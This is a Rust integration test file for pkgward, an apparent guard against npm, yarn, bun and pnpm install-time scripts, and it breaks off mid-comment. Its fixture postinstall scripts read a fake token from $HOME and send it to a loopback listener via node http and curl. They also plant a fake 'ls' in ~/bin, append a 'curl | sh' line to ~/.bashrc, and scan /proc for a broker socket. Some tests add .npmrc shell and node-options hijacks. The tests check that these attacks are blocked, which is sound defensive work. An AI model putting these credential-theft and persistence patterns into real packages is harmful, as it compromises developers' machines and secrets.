//! Install-time code of the npm family, end to end with the real npm behind
//! the pkgward shim against the loopback registry: fixture packages whose
//! postinstall writes a marker, sends a fake token read from `$HOME` to a
//! loopback listener (node's http and `sh -c curl`), drops an executable into
//! a PATH directory and appends to `~/.bashrc`. Unapproved: none of it
//! happens, the install succeeds, the denial is listed and recorded.
//! Approved: it happens (it is the package's own code) and is recorded.

mod support;

use std::sync::OnceLock;

use support::guard::{text, Guarded};
use support::registry::Listener;
use support::{js_marker, shared, NpmPackage};

/// The fixtures' install-time code sends what it steals to the URL in
/// `~/.exfil-url`: each test's own listener.
fn evil_js() -> String {
    format!(
        "{marker}\
         const os = require('os'), http = require('http'), cp = require('child_process');\n\
         const home = os.homedir();\n\
         const url = fs.readFileSync(path.join(home, '.exfil-url'), 'utf8').trim();\n\
         let token = '';\n\
         try {{ token = fs.readFileSync(path.join(home, '.fake-token'), 'utf8').trim(); }} catch (e) {{}}\n\
         const done = () => {{}};\n\
         const req = http.request(url + '/node?t=' + token, {{ method: 'POST' }}, done);\n\
         req.on('error', done); req.end(token);\n\
         try {{ cp.execSync(\"sh -c 'curl -s -m 5 -d t=\" + token + \" \" + url + \"/curl || true'\"); }} catch (e) {{}}\n\
         fs.mkdirSync(path.join(home, 'bin'), {{ recursive: true }});\n\
         fs.writeFileSync(path.join(home, 'bin', 'ls'), '#!/bin/sh\\necho pwned\\n', {{ mode: 0o755 }});\n\
         fs.appendFileSync(path.join(home, '.bashrc'), 'curl ' + url + '/rc | sh\\n');\n",
        marker = js_marker("evil-postinstall"),
    )
}

fn fixtures() {
    static DONE: OnceLock<()> = OnceLock::new();
    DONE.get_or_init(|| {
        let r = shared();
        r.publish_npm(&NpmPackage::new("pw-scr-dep", "1.0.0").script("postinstall", "node dep.js").file("dep.js", js_marker("dep-postinstall")));
        r.publish_npm(
            &NpmPackage::new("pw-scr-evil", "1.0.0")
                .dep("pw-scr-dep", "^1.0.0")
                .script("postinstall", "node evil.js")
                .file("evil.js", evil_js())
                .file("index.js", "module.exports = 'evil works without its script';\n"),
        );
        // Like esbuild: the postinstall downloads what the package needs
        // (here from the loopback registry, through the proxy it is given,
        // as a proxy-aware downloader does) and the package fails without it.
        let native = format!(
            "const http = require('http'), fs = require('fs');\n\
             const target = '{}pw-scr-dep', proxy = process.env.HTTP_PROXY;\n\
             const p = proxy ? new URL(proxy) : null;\n\
             const opts = p ? {{ host: p.hostname, port: p.port, path: target, headers: {{ host: new URL(target).host }} }} : target;\n\
             http.get(opts, res => {{\n\
               let body = ''; res.on('data', d => body += d);\n\
               res.on('end', () => {{\n\
                 if (res.statusCode !== 200) {{ console.error('download:', res.statusCode, body); process.exit(1); }}\n\
                 fs.writeFileSync(__dirname + '/native.js', 'module.exports = \"native ok\";\\n');\n\
               }});\n\
             }}).on('error', e => {{ console.error('download:', e.message); process.exit(1); }});\n",
            r.npm_url()
        );
        r.publish_npm(&NpmPackage::new("pw-scr-fail", "1.0.0").script("postinstall", "echo failing >&2; exit 3"));
        // Its package.json claims the approved package's name.
        let spoof = NpmPackage::new("pw-scr-spoof", "1.0.0")
            .script("postinstall", "node spoof.js")
            .file("spoof.js", js_marker("spoof-postinstall"));
        let mut claimed = spoof.package_json();
        claimed["name"] = serde_json::json!("pw-scr-dep");
        r.publish_npm(&spoof.file("package.json", serde_json::to_string(&claimed).unwrap()));
        // Approved, and it tries to have pkgward run more code on another
        // approved package's behalf: it finds npm's script broker and asks.
        let sneak = format!(
            "{marker}\
             const cp = require('child_process');\n\
             let sock = null;\n\
             for (const p of fs.readdirSync('/proc')) {{\n\
               if (!/^[0-9]+$/.test(p)) continue;\n\
               try {{\n\
                 const e = fs.readFileSync('/proc/' + p + '/environ', 'latin1').split('\\0');\n\
                 const m = e.find(x => x.startsWith('PKGWARD_NPM_SCRIPT_BROKER='));\n\
                 if (m) {{ sock = m.slice(m.indexOf('=') + 1); break; }}\n\
               }} catch (e) {{}}\n\
             }}\n\
             fs.writeFileSync(path.join(dir, 'sneak-found'), sock ? 'yes' : 'no');\n\
             if (sock) {{\n\
               const env = Object.assign({{}}, process.env, {{ PKGWARD_NPM_SCRIPT_BROKER: sock, npm_lifecycle_event: 'postinstall' }});\n\
               const r = cp.spawnSync({exe}, ['-c', 'echo ran > ' + path.join(dir, 'sneak-ran')], {{ cwd: path.join(process.cwd(), '..', 'pw-scr-dep'), env, stdio: 'inherit' }});\n\
               fs.writeFileSync(path.join(dir, 'sneak-status'), String(r.status));\n\
               const npx = Object.assign({{}}, env, {{ npm_lifecycle_event: 'npx' }});\n\
               const n = cp.spawnSync({exe}, ['-c', 'echo ran > ' + path.join(dir, 'sneak-npx-ran')], {{ env: npx, stdio: 'inherit' }});\n\
               fs.writeFileSync(path.join(dir, 'sneak-npx-status'), String(n.status));\n\
             }}\n",
            marker = js_marker("sneak-postinstall"),
            exe = serde_json::json!(env!("CARGO_BIN_EXE_pkgward")),
        );
        r.publish_npm(
            &NpmPackage::new("pw-scr-sneak", "1.0.0")
                .dep("pw-scr-dep", "^1.0.0")
                .script("postinstall", "node sneak.js")
                .file("sneak.js", sneak),
        );
        // Runs until told to stop: says so when SIGTERM reaches it.
        let term = format!(
            "{marker}\
             process.on('SIGTERM', () => {{\n\
               fs.writeFileSync(path.join(dir, 'term-got'), 'SIGTERM');\n\
               process.exit(7);\n\
             }});\n\
             setTimeout(() => process.exit(0), 120000);\n",
            marker = js_marker("term-started"),
        );
        r.publish_npm(
            &NpmPackage::new("pw-scr-term", "1.0.0")
                .script("postinstall", "exec node term.js")
                .file("term.js", term),
        );
        // Run by `npx`: its postinstall builds what its bin needs (in its
        // own directory) and tries more; its bin prints, and exits 3 when told.
        let build = format!(
            "{marker}\
             fs.writeFileSync(path.join(__dirname, 'built.js'), 'module.exports = \"built\";\\n');\n\
             let rc = 'written';\n\
             try {{ fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'pwned\\n'); }} catch (e) {{ rc = 'blocked'; }}\n\
             fs.writeFileSync(path.join(dir, 'npx-bashrc'), rc);\n\
             {evil}",
            marker = js_marker("npx-postinstall"),
            evil = "try { const url = fs.readFileSync(path.join(require('os').homedir(), '.exfil-url'), 'utf8').trim();\n\
                    require('http').request(url + '/npx', { method: 'POST' }, () => {}).on('error', () => {}).end('x'); } catch (e) {}\n",
        );
        r.publish_npm(
            &NpmPackage::new("pw-scr-npx", "1.0.0")
                .script("postinstall", "node build.js")
                .file("build.js", build)
                .field("bin", serde_json::json!({ "pw-scr-npx": "bin.js" }))
                .executable(
                    "bin.js",
                    "#!/usr/bin/env node\n\
                     if (process.argv[2] === 'exit3') process.exit(3);\n\
                     console.log('pw-scr-npx says ' + require('./built.js') + ' ' + process.argv.slice(2).join(' '));\n",
                ),
        );
        // `npm init pw-scr` runs it; it needs pw-scr-npx built.
        r.publish_npm(
            &NpmPackage::new("create-pw-scr", "1.0.0")
                .dep("pw-scr-npx", "^1.0.0")
                .field("bin", serde_json::json!({ "create-pw-scr": "init.js" }))
                .executable(
                    "init.js",
                    "#!/usr/bin/env node\nconsole.log('init says ' + require('pw-scr-npx/built.js'));\n",
                ),
        );
        r.publish_npm(
            &NpmPackage::new("pw-scr-npx-app", "1.0.0")
                .dep("pw-scr-evil", "^1.0.0")
                .field("bin", serde_json::json!({ "pw-scr-npx-app": "app.js" }))
                .executable("app.js", "#!/usr/bin/env node\nconsole.log('app ran');\n"),
        );
        r.publish_npm(
            &NpmPackage::new("@pwscr/native", "1.2.0")
                .script("postinstall", "node install.js")
                .file("install.js", native)
                .file("index.js", "module.exports = require('./native.js');\n"),
        );
    });
}

struct T {
    g: Guarded,
    exfil: Listener,
}

impl std::ops::Deref for T {
    type Target = Guarded;
    fn deref(&self) -> &Guarded {
        &self.g
    }
}

fn setup(policy_extra: &str) -> T {
    fixtures();
    let exfil = Listener::start();
    // The egress proxy lets the listener through, so that whatever install
    // code runs reaches it whichever way it connects: these tests are about
    // which code runs (the proxy and tracer have tests of their own).
    let host = exfil
        .base_url()
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let policy = format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}",
        shared().npm_url()
    );
    let g = Guarded::new(&policy);
    std::fs::write(g.sb.home.join(".fake-token"), "tok-s3cret\n").unwrap();
    std::fs::write(g.sb.home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(g.sb.home.join(".exfil-url"), exfil.base_url()).unwrap();
    std::fs::write(
        g.sb.work.join("package.json"),
        r#"{"name":"pw-app","version":"0.1.0","private":true}"#,
    )
    .unwrap();
    T { g, exfil }
}

fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
    g.audit()
        .into_iter()
        .filter(|r| r["kind"] == "script")
        .collect()
}

fn node(g: &Guarded, code: &str) -> std::process::Output {
    std::process::Command::new("node")
        .arg("-e")
        .arg(code)
        .current_dir(&g.sb.work)
        .output()
        .unwrap()
}

fn no_effects(g: &T) {
    assert_eq!(g.sb.marker("evil-postinstall"), None, "the postinstall ran");
    assert_eq!(
        g.sb.marker("dep-postinstall"),
        None,
        "the dependency's postinstall ran"
    );
    assert_eq!(g.exfil.connections().len(), 0, "the listener was reached");
    assert_eq!(
        std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert!(!g.sb.home.join("bin/ls").exists());
}

#[test]
fn unapproved_install_scripts_do_not_run_and_the_install_succeeds() {
    let g = setup("");
    let o = g.npm(&["install", "pw-scr-evil", "@pwscr/native"], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npm failed: {err}");
    no_effects(&g);
    // Listed once, with the command that approves each.
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    assert!(
        err.contains("pkgward approve npm:@pwscr/native@1.2.0"),
        "{err}"
    );
    assert!(
        err.contains("pkgward approve npm:pw-scr-dep@1.0.0"),
        "{err}"
    );
    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
    // The package works without its script; the native one does not.
    let ok = node(&g, "console.log(require('pw-scr-evil'))");
    assert_eq!(text(&ok.stdout).trim(), "evil works without its script");
    assert!(!node(&g, "require('@pwscr/native')").status.success());
    // Recorded, linked to the invocation.
    let inv = g.last_invocation();
    let recs = scripts(&g);
    let evil = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-evil")
        .expect("a script record for pw-scr-evil");
    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
    assert_eq!(evil["decision"], "deny");
    assert_eq!(evil["ran"], false);
    assert_eq!(evil["script"], "postinstall");
    assert_eq!(evil["command"], "node evil.js");
    assert_eq!(evil["version"], "1.0.0");

    // `pkgward scripts` lists the same, with the decision and the approval command.
    let o =
        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
            .args(["scripts", "--json"])
            .output()
            .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    let rows: Vec<serde_json::Value> = text(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let row = rows.iter().find(|r| r["package"] == "pw-scr-evil").unwrap();
    assert_eq!(row["decision"], "deny");
    assert_eq!(row["approve"], "pkgward approve npm:pw-scr-evil@1.0.0");
    assert_eq!(rows.len(), 3, "{rows:#?}");
}

/// The denial says how the script runs once approved, and that command,
/// run through the shim after `pkgward approve`, runs it.
#[test]
fn once_approved_the_rebuild_the_denial_names_runs_the_script() {
    let g = setup("");
    let o = g.npm(&["install", "@pwscr/native"], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npm failed: {err}");
    assert!(!node(&g, "require('@pwscr/native')").status.success());
    let hint = err
        .lines()
        .find(|l| l.contains("once approved"))
        .unwrap_or_else(|| panic!("no re-run hint: {err}"));
    let cmd = hint.split('`').nth(1).unwrap_or_default();
    assert!(
        cmd.starts_with("npm rebuild ") && cmd.split(' ').any(|w| w == "@pwscr/native"),
        "{err}"
    );
    let o =
        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
            .args(["approve", "npm:@pwscr/native@1.2.0"])
            .output()
            .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    let args: Vec<&str> = cmd.split(' ').skip(1).collect();
    let o = g.npm(&args, &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let native = node(&g, "console.log(require('@pwscr/native'))");
    assert_eq!(
        text(&native.stdout).trim(),
        "native ok",
        "{}",
        text(&o.stderr)
    );
    // What stays unapproved is still denied (and named again).
    assert_eq!(g.sb.marker("dep-postinstall"), None);
}

#[test]
fn a_hostile_npmrc_or_flag_cannot_turn_scripts_back_on() {
    let g = setup("");
    std::fs::write(g.sb.work.join(".npmrc"), "ignore-scripts=false\n").unwrap();
    let o = g.npm(
        &["install", "--ignore-scripts=false", "pw-scr-evil"],
        &[
            ("npm_config_ignore_scripts", "false"),
            ("NPM_CONFIG_IGNORE_SCRIPTS", "false"),
            ("Npm_Config_Ignore_Scripts", "false"),
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    no_effects(&g);
}

#[test]
fn approved_install_scripts_run_in_dependency_order_and_are_recorded() {
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-scr-dep\", \"npm:@pwscr/native@^1.2\", \"npm:pw-app@local\"]\n",
    );
    std::fs::write(
        g.sb.work.join("package.json"),
        r#"{"name":"pw-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/root-postinstall', 'ran')\""}}"#,
    )
    .unwrap();
    let o = g.npm(&["install", "pw-scr-evil", "@pwscr/native"], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "npm failed: {err}");
    // Approved: the dependency and the native download ran.
    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
    let native = node(&g, "console.log(require('@pwscr/native'))");
    assert_eq!(
        text(&native.stdout).trim(),
        "native ok",
        "{}",
        text(&native.stderr)
    );
    // pw-scr-evil is not approved: none of its effects.
    no_effects_of_evil(&g);
    assert!(
        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
        "{err}"
    );
    assert!(!err.contains("approve npm:pw-scr-dep"), "{err}");

    let recs = scripts(&g);
    let pos = |name: &str| recs.iter().position(|r| r["package"] == name).unwrap();
    let dep = &recs[pos("pw-scr-dep")];
    assert_eq!(dep["decision"], "approved");
    assert_eq!(dep["ran"], true);
    assert_eq!(dep["exit_code"], 0);
    assert!(dep["duration_ms"].as_f64().is_some());
    assert!(dep["approved_by"]
        .as_str()
        .unwrap()
        .starts_with("npm:pw-scr-dep"));
    // Dependencies first.
    assert!(pos("pw-scr-dep") < pos("pw-scr-evil"));
    // npm runs the project's own install scripts only for a plain install.
    assert!(!recs.iter().any(|r| r["package"] == "pw-app"));
    assert_eq!(g.sb.marker("root-postinstall"), None);

    // A plain install: the project's postinstall runs (approved), last; the
    // packages already installed are not run again.
    let o = g.npm(&["install"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("root-postinstall").as_deref(), Some("ran"));
    let inv = g.last_invocation();
    let second: Vec<serde_json::Value> = scripts(&g)
        .into_iter()
        .filter(|r| r["invocation_id"] == inv["invocation_id"])
        .collect();
    assert_eq!(second.len(), 1, "{second:#?}");
    assert_eq!(second[0]["package"], "pw-app");
    assert_eq!(second[0]["path"], ".");
    assert_eq!(second[0]["decision"], "approved");
    // And `npm ci` (a fresh node_modules) runs everything approved again.
    let o = g.npm(&["ci"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let inv = g.last_invocation();
    let third: Vec<String> = scripts(&g)
        .into_iter()
        .filter(|r| r["invocation_id"] == inv["invocation_id"] && r["ran"] == true)
        .map(|r| r["package"].as_str().unwrap().to_string())
        .collect();
    let mut deps = third[..2].to_vec();
    deps.sort();
    assert_eq!(deps, ["@pwscr/native", "pw-scr-dep"]);
    assert_eq!(third[2..], ["pw-app"]);
}

/// What the project's own scripts and its `file:` dependency's leave.
const OWN_MARKERS: [&str; 4] = [
    "own-preinstall",
    "own-postinstall",
    "own-prepare",
    "link-postinstall",
];

/// A `scripts.allow` entry approves the registry package of that name,
/// never the project's own code named like it: a cloned project whose
/// `package.json` (and a `file:` dependency's) takes an approved package's
/// name does not run its own scripts under the default deny; the listing
/// and `pkgward scripts` say to approve it as `npm:NAME@local`, and why the
/// registry approval does not count; once approved so (`pkgward approve
/// … --file` into the user's policy), they run.
#[test]
fn the_projects_own_code_needs_a_local_approval() {
    let g = setup("");
    let user = g.sb.home.join(".config/pkgward/policy.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(
        &user,
        "[scripts]\nallow = [\"npm:pw-evilname\", \"npm:pw-evillink\"]\n",
    )
    .unwrap();
    let js = |m: &str| {
        serde_json::json!(format!(
            "node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/{m}', 'ran')\""
        ))
        .to_string()
    };
    g.sb.write(
        "vendor/link/package.json",
        format!(
            r#"{{"name":"pw-evillink","version":"1.0.0","scripts":{{"postinstall":{}}}}}"#,
            js("link-postinstall")
        ),
    );
    g.sb.write(
        "package.json",
        format!(
            r#"{{"name":"pw-evilname","version":"1.0.0","private":true,"dependencies":{{"pw-evillink":"file:./vendor/link"}},"scripts":{{"preinstall":{},"postinstall":{},"prepare":{}}}}}"#,
            js("own-preinstall"),
            js("own-postinstall"),
            js("own-prepare")
        ),
    );
    let o = g.npm(&["install"], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    for m in OWN_MARKERS {
        assert_eq!(g.sb.marker(m), None, "{m} ran: {err}");
    }
    for name in ["pw-evilname", "pw-evillink"] {
        assert!(
            err.contains(&format!("approve: pkgward approve npm:{name}@local")),
            "{err}"
        );
        assert!(
            err.contains(&format!(
                "`npm:{name}` approves the registry package only; this is the project's own code"
            )),
            "{err}"
        );
    }
    let recs = scripts(&g);
    let own: Vec<&serde_json::Value> = recs
        .iter()
        .filter(|r| r["package"] == "pw-evilname")
        .collect();
    assert!(!own.is_empty(), "{recs:#?}");
    for r in &own {
        assert_eq!(r["decision"], "deny", "{r}");
        assert_eq!(r["ran"], false, "{r}");
        assert_eq!(r["path"], ".", "{r}");
    }
    assert!(recs
        .iter()
        .any(|r| r["package"] == "pw-evillink" && r["decision"] == "deny"));
    // `pkgward scripts` says the same.
    let pkgward = |args: &[&str]| {
        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
            .args(args)
            .output()
            .unwrap()
    };
    let o = pkgward(&["scripts", "--json"]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let rows: Vec<serde_json::Value> = text(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let row = rows.iter().find(|r| r["package"] == "pw-evilname").unwrap();
    assert_eq!(row["decision"], "deny");
    assert_eq!(row["local"], true);
    assert_eq!(row["approve"], "pkgward approve npm:pw-evilname@local");
    // Approved as the project's own code: they run.
    for name in ["pw-evilname", "pw-evillink"] {
        let entry = format!("npm:{name}@local");
        let o = pkgward(&["approve", &entry, "--file", user.to_str().unwrap()]);
        assert!(o.status.success(), "{}", text(&o.stderr));
    }
    let o = g.npm(&["install"], &[]);
    let err = text(&o.stderr);
    assert!(o.status.success(), "{err}");
    for m in OWN_MARKERS {
        assert_eq!(g.sb.marker(m).as_deref(), Some("ran"), "{m}: {err}");
    }
    let inv = g.last_invocation();
    let ran: Vec<serde_json::Value> = scripts(&g)
        .into_iter()
        .filter(|r| r["invocation_id"] == inv["invocation_id"] && r["package"] == "pw-evilname")
        .collect();
    assert!(!ran.is_empty());
    for r in &ran {
        assert_eq!(r["decision"], "approved", "{r}");
        assert!(r["approved_by"]
            .as_str()
            .unwrap()
            .starts_with("npm:pw-evilname@local"));
    }
}

fn no_effects_of_evil(g: &T) {
    assert_eq!(g.sb.marker("evil-postinstall"), None);
    assert_eq!(g.exfil.connections().len(), 0);
    assert_eq!(
        std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert!(!g.sb.home.join("bin/ls").exists());
}

#[test]
fn an_approved_package_does_all_it_does() {
    // Confinement of approved code switched off: the tracer and proxy only.
    let g = setup(
        "[scripts]\nallow = [\"npm:pw-scr-evil@1.0.0\"]\n[sandbox]\nconfine_approved = false\n",
    );
    let o = g.npm(&["install", "pw-scr-evil"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("evil-postinstall").as_deref(), Some("ran\n"));
    // Its own code, run: both channels delivered the token from $HOME.
    let sent: Vec<String> = g.exfil.connections().iter().map(|c| c.text()).collect();
    assert!(
        sent.iter().filter(|s| s.contains("tok-s3cret")).count() >= 2,
        "{sent:?}"
    );
    assert!(std::fs::read_to_string(g.sb.home.join(".bashrc"))
        .unwrap()
        .contains("/rc"));
    assert!(g.sb.home.join("bin/ls").exists());
    let recs = scripts(&g);
    let evil = recs.iter().find(|r| r["package"] == "pw-scr-evil").unwrap();
    assert_eq!(evil["decision"], "approved");
    assert_eq!(evil["exit_code"], 0);
}

#[test]
fn a_hostile_npmrc_cannot_hijack_an_approved_script() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep\"]\n");
    let shell = g.sb.root().join("evil-shell");
    std::fs::write(
        &shell,
        format!(
            "#!/bin/sh\necho hijacked > '{}/shell-hijack'\nexec /bin/sh \"$@\"\n",
            g.sb.markers.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&shell, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let evil_js = g.sb.root().join("evil-require.js");
    std::fs::write(
        &evil_js,
        format!(
            "require('fs').writeFileSync('{}/node-options-hijack', 'x');\n",
            g.sb.markers.display()
        ),
    )
    .unwrap();
    std::fs::write(
        g.sb.work.join(".npmrc"),
        format!(
            "script-shell={}\nnode-options=--require {}\n",
            shell.display(),
            evil_js.display()
        ),
    )
    .unwrap();
    let o = g.npm(&["install", "pw-scr-dep"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
    assert_eq!(g.sb.marker("shell-hijack"), None);
    assert_eq!(g.sb.marker("node-options-hijack"), None);
}

#[test]
fn a_range_that_does_not_cover_the_version_does_not_approve() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep@^2\"]\n");
    let o = g.npm(&["install", "pw-scr-dep"], &[]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("dep-postinstall"), None);
}

#[test]
fn a_project_cannot_approve_when_the_system_policy_says_so() {
    // The env layer stands for the system one in Guarded; a project file
    // approving is refused when the system layer sets project_approvals.
    let g = setup("");
    let sys = g.sb.root().join("system.toml");
    std::fs::write(
        &sys,
        format!(
            "[registries]\nnpm = [\"{}\"]\n[scripts]\nproject_approvals = false\n",
            shared().npm_url()
        ),
    )
    .unwrap();
    std::fs::write(
        g.sb.work.join("pkgward.toml"),
        "[scripts]\nallow = [\"npm:pw-scr-dep\"]\n",
    )
    .unwrap();
    let o = g.npm(
        &["install", "pw-scr-dep"],
        &[
            ("PKGWARD_SYSTEM_POLICY", sys.to_str().unwrap()),
            ("PKGWARD_POLICY", ""),
        ],
    );
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("dep-postinstall"), None);
    let inv = g.last_invocation();
    let refused = inv["policy"]["refused"].as_array().unwrap();
    assert!(refused.iter().any(|r| r["key"] == "scripts.allow"), "{inv}");
}

#[test]
fn npx_of_an_unapproved_package_is_denied() {
    let g = setup("");
    let o = g.npm(&["exec", "--yes", "pw-scr-evil"], &[]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("pkgward approve npm:pw-scr-evil"));
    let inv = g.last_invocation();
    assert_eq!(inv["decision"]["action"], "deny");
    assert_eq!(inv["decision"]["reasons"][0]["code"], "exec-not-approved");
    // `npm init NAME` fetches and runs create-NAME.
    let o = g.npm(&["init", "--yes", "pw-scr-evil"], &[]);
    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("npm:create-pw-scr-evil"),
        "{}",
        text(&o.stderr)
    );
}

/// An option's value is not the package `npm exec` runs, nor is a global
/// option's value its command: approving `pw-scr-dep` does not let
/// `--tag pw-scr-dep pw-scr-evil` run pw-scr-evil, and `--prefix DIR exec`
/// is still `exec`.
#[test]
fn options_do_not_hide_the_package_npm_exec_runs() {
    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep\"]\n");
    for args in [
        &["exec", "--yes", "--tag", "pw-scr-dep", "pw-scr-evil"][..],
        &["--prefix", "pw-scr-dep", "exec", "--yes", "pw-scr-evil"],
        &["--loglevel", "warn", "init", "--yes", "pw-scr-evil"],
    ] {
        let o = g.npm(args, &[]);
        let err = text(&o.stderr);
        assert_eq!(o.status.code(), Some(77), "{args:?}: {err}");
        assert!(err.contains("pw-scr-evil`"), "{args:?}: {err}");
    }
}

#[test]
fn approve_adds_the_entry_and_keeps_comments() {
    let g = setup("");
    let file = g.sb.work.join("pkgward.toml");
    std::fs::write(
        &file,
        "# our policy\n[scripts]\n# reviewed\nallow = [\"npm:a\"] # keep\n",
    )
    .unwrap();
    let o =
        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
            .args(["approve", "npm:pw-scr-dep@^1"])
            .output()
            .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    let t = std::fs::read_to_string(&file).unwrap();
    assert!(
        t.starts_with("# our policy\n[scripts]\n# reviewed\n"),
        "{t}"
    );
    assert!(t.contains("\"npm:a\", \"npm:pw-scr-dep@^1\""), "{t}");
    assert!(t.contains("# keep"), "{t}");
    // Invalid entries are refused with exit 2 and the file is untouched.
    let bad =
        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
            .args(["approve", "npm:x@^^1"])
            .output()
            .unwrap();
    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad.stderr));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), t);
}

/// The control: without pkgward the real npm runs these scripts, so the
/// tests above prove pkgward stopped them.
#[test]
fn control_the_real_npm_alone_runs_the_scripts() {
    let g = setup("");
    let o =
        g.sb.npm(&shared().npm_url())
            .args(["install", "pw-scr-dep", "@pwscr/native"])
            .output()
            .unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
    let native = node(&g, "console.log(require('@pwscr/native'))");
    assert_eq!(text(&native.stdout).trim(), "native ok");
}

/// yarn 1, bun and pnpm: installs run with their own switches off; yarn 1
/// and bun (npm's node_modules layout) run the approved scripts afterwards
/// through the real npm, pnpm through `pnpm rebuild`.
#[test]
fn yarn_bun_and_pnpm_run_no_unapproved_scripts() {
    use support::tools::find_in_path;
    for tool in ["yarn", "bun", "pnpm"] {
        let Some(real) = find_in_path(tool) else {
            panic!("`{tool}` is not on PATH; install it with `npm install -g {tool}`");
        };
        for approved in [false, true] {
            let extra = if approved {
                "[scripts]\nallow = [\"npm:pw-scr-dep\"]\n"
            } else {
                ""
            };
            let g = setup(extra);
            std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join(tool)).unwrap();
            let _ = real;
            let root = g.sb.root().to_path_buf();
            let reg = shared().npm_url();
            std::fs::write(g.sb.home.join(".yarnrc"), format!("registry \"{reg}\"\n")).unwrap();
            std::fs::write(g.sb.home.join(".npmrc"), format!("registry={reg}\n")).unwrap();
            std::fs::create_dir_all(g.sb.home.join(".config")).unwrap();
            std::fs::write(
                g.sb.home.join(".config/.bunfig.toml"),
                format!("[install]\nregistry = \"{reg}\"\n"),
            )
            .unwrap();
            let cache = |n: &str| root.join(n).to_string_lossy().into_owned();
            let env = [
                ("YARN_CACHE_FOLDER", cache("yarn-cache")),
                ("yarn_disable_self_update_check", "true".into()),
                ("BUN_INSTALL_CACHE_DIR", cache("bun-cache")),
                ("npm_config_store_dir", cache("pnpm-store")),
                ("PNPM_CONFIG_UPDATE_NOTIFIER", "false".into()),
                ("DO_NOT_TRACK", "1".into()),
            ];
            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let reg_env = g.sb.npm_env(&reg);
            let o =
                g.sb.command(
                    tool,
                    &[reg_env, g.pkgward_env(), support::guard::to_env(&env)],
                )
                .args(["add", "pw-scr-dep"])
                .output()
                .unwrap();
            assert!(o.status.success(), "{tool}: {}", text(&o.stderr));
            let ran = g.sb.marker("dep-postinstall").is_some();
            let want = approved;
            assert_eq!(ran, want, "{tool} approved={approved}: {}", text(&o.stderr));
            if !approved {
                no_effects(&g);
            }
            if want {
                let recs = scripts(&g);
                let r = recs.iter().find(|r| r["package"] == "pw-scr-dep").unwrap();
                assert_eq!(r["decision"], "approved");
                assert_eq!(r["exit_code"], 0);
            }
        }
    }
}

fn pnpm(g: &T, args: &[&str]) -> std::process::Output {
    let root = g.sb.root().to_path_buf();
    let reg = shared().npm_url();
    std::fs::write(g.sb.home.join(".npmrc"), format!("registry={reg}\n")).unwrap();
    let store = root.join("pnpm-store").to_string_lossy().into_owned();
    let env = [
        ("npm_config_store_dir", store.as_str()),
        ("PNPM_CONFIG_UPDATE_NOTIFIER", "false"),
        ("DO_NOT_TRACK", "1"),
    ];
    g.sb.command(
        "pnpm",
        &[
            g.sb.npm_env(&reg),
            g.pkgward_env(),
            support::guard::to_env(&env),
        ],
    )
    .args(args)
    .output()
    .unwrap()
}

/// pnpm (10+ blocks dependency builds unless allowed): pkgward runs the
